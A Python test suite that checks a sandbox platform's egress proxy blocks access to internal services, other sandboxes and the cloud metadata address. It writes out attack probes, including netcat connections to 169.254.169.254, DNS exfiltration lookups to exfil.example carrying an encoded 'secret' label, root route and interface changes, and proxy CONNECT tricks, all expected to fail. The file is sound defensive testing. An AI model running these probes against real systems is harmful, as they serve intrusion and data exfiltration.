"""Egress: whatever a tenant's rules say, a sandbox never reaches the control plane (api,
scheduler, image-service, node-agents), Redis, RabbitMQ, the node's own addresses, another
sandbox, or 169.254.169.254 — not by address, not through an allowed name that resolves
there, not as root inside. Rules that name those are refused at the api (422); the node's
proxy refuses them again at connect time, which is what the probes here test."""

import ipaddress
import os
import urllib.parse

import pytest

from tests.egress_upstream import make_upstream
from tests.live_platform import SECURITY_UPSTREAM_OCTET
from tests.security.harness import host_ip

PROXY_PORT = 3128  # the node's egress proxy (CORRAL_NODE_EGRESS_PROXY_PORT, its default on the platform)

# Rule sets an attacker may get through the api (the widest it takes without the operator's
# network_allow_any): every probe below must fail under each.
RULE_SETS = [
    {"allow": []},
    {"presets": ["e2e-index"]},
    {"allow": ["*.corral.test", "198.18.0.0/15", "10.0.0.0/8:1-65535", "192.0.2.0/24"]},
]
SIGNS = ("+PONG", "AMQP", "HTTP/1.", "connection.start")  # an answer from Redis, RabbitMQ or an HTTP service


def targets(platform) -> list[tuple[str, int]]:
    """(host, port) of every platform service, at each address a sandbox could try for it."""
    ports = set()
    for url in platform["urls"].values():
        ports.add(urllib.parse.urlsplit(url).port)
    for env in ("CORRAL_TEST_REDIS_URL", "CORRAL_TEST_AMQP_URL"):
        if os.environ.get(env):
            ports.add(urllib.parse.urlsplit(os.environ[env]).port)
    ports.add(46433)  # PostgreSQL of the test servers
    hosts = [host_ip(), "127.0.0.1", "169.254.169.254", "loop.corral.test", "meta.corral.test"]
    return [(h, p) for h in hosts for p in sorted(p for p in ports if p)]


def answered(attack, sandbox, host: str, port: int) -> str:
    payload = "PING\\r\\nGET /healthz HTTP/1.0\\r\\n\\r\\n"
    out = attack.sh(sandbox, f"printf '{payload}' | nc -w 2 {host} {port} 2>/dev/null | head -c 200", timeout_s=30)
    return out.stdout if any(sign in out.stdout for sign in SIGNS) else ""


@pytest.fixture(scope="module")
def outside():
    up = make_upstream(SECURITY_UPSTREAM_OCTET)
    try:
        yield up
    finally:
        up.close()


@pytest.mark.parametrize("rules", RULE_SETS, ids=["empty", "preset", "wide"])
def test_platform_node_and_metadata_unreachable_under_every_rule_set(attack, platform, outside, rules):
    attacker = attack.sandbox(probe=False, network=rules)
    reached = []
    for host, port in targets(platform):
        got = answered(attack, attacker, host, port)
        if got:
            reached.append(f"{host}:{port} answered {got[:60]!r}")
    assert not reached, "\n".join(reached)
    attack.contained()
    attack.end()


def test_other_sandboxes_unreachable(attack, lab, outside):
    victim = lab.create(lab.other, network={"allow": []})
    try:
        addr = victim.exec(["sh", "-c", "ip -4 -o addr show eth0"]).stdout.split()[3].split("/")[0]
        victim.exec(["sh", "-c", "nc -lk -p 8080 -e echo victim-answered >/dev/null 2>&1 &"])
        attacker = attack.sandbox(probe=False, network={"allow": ["198.18.0.0/15"]})
        gateway = str(ipaddress.IPv4Address(int(ipaddress.IPv4Address(addr)) ^ 1))
        for target in (addr, gateway):
            out = attack.sh(attacker, f"nc -w 2 {target} 8080 </dev/null", timeout_s=30).stdout
            assert "victim-answered" not in out, target
        # Not by faking its address either: root inside has no capability over its interface.
        r = attack.sh(attacker, f"ip addr add {addr}/31 dev eth0 && ip addr", user="root")
        assert r.exit_code != 0 and addr not in r.stdout
        attack.contained()
        attack.end()
    finally:
        lab.delete_quietly(victim)


def test_dns_carries_nothing_out_and_rules_stay_put(attack, outside):
    sandbox = attack.sandbox(probe=False, network={"presets": ["e2e-index"]})
    dns = attack.sh(sandbox, "for n in 1 2 3; do nslookup c2VjcmV0-$n.exfil.example 2>&1; done; "
                             "nslookup index.corral.test 2>&1; nslookup -type=AAAA index.corral.test 2>&1").stdout
    assert dns.count("NXDOMAIN") >= 3 and "exfil" not in dns.split("NXDOMAIN")[-1]
    assert "::" not in dns.split("index.corral.test")[-1]  # no IPv6 answer
    for cmd in ("ip route add 0.0.0.0/1 dev eth0", "ip link set eth0 down", "ip link add x type veth",
                "echo 1 > /proc/sys/net/ipv4/ip_forward", "echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6"):
        assert attack.sh(sandbox, cmd, user="root").exit_code != 0, cmd
    attack.contained()
    attack.end()


def test_an_ip_literal_gets_one_verdict_direct_connect_or_absolute(attack, outside, tmp_path):
    """Whichever way a sandbox names an IP literal (a direct connection, CONNECT to the proxy,
    an absolute URL to the proxy), the proxy judges that target by the same rules: what a rule
    allows answers all three, what it does not is refused by all three (refusing more than the
    rules say is a bug too, as is letting through more)."""
    (tmp_path / "ok.txt").write_text("hello from outside\n")
    allowed, disallowed = 8080, 8081  # both served: a refusal is the proxy's, not a closed port's
    for port in (allowed, disallowed):
        outside.serve(str(tmp_path), port)
    sandbox = attack.sandbox(probe=False, network={"allow": [f"{outside.address}:{allowed}"]})
    own = attack.sh(sandbox, "ip -4 -o addr show eth0", timeout_s=30).stdout.split()[3].split("/")[0]
    gateway = str(ipaddress.IPv4Address(int(ipaddress.IPv4Address(own)) ^ 1))

    def forms(port: int) -> dict[str, str]:
        target = f"{outside.address}:{port}"
        get = "GET /ok.txt HTTP/1.0\\r\\n\\r\\n"
        return {
            "direct": f"printf '{get}' | nc -w 5 {outside.address} {port}",
            "absolute": f"printf 'GET http://{target}/ok.txt HTTP/1.0\\r\\n\\r\\n' | nc -w 5 {gateway} {PROXY_PORT}",
            # as curl -p -x words it; the GET follows at once (clients may send before the 200)
            "connect": f"printf 'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n{get}' "
                       f"| nc -w 5 {gateway} {PROXY_PORT}",
            # as printf | nc words it: HTTP/1.1 without a Host header
            "connect-no-host": f"printf 'CONNECT {target} HTTP/1.1\\r\\n\\r\\n{get}' | nc -w 5 {gateway} {PROXY_PORT}",
            # to the gateway at another port (where a name our resolver gave points)
            "connect-other-port": f"printf 'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n{get}' "
                                  f"| nc -w 5 {gateway} 8080",
        }

    verdicts = {}
    for port in (allowed, disallowed):
        for form, script in forms(port).items():
            out = attack.sh(sandbox, script, timeout_s=30).stdout
            verdicts[(port, form)] = "answered" if "hello from outside" in out else "refused"
    assert verdicts == {(port, form): "answered" if port == allowed else "refused"
                        for port in (allowed, disallowed) for form in forms(port)}
    attack.contained()
    attack.end()
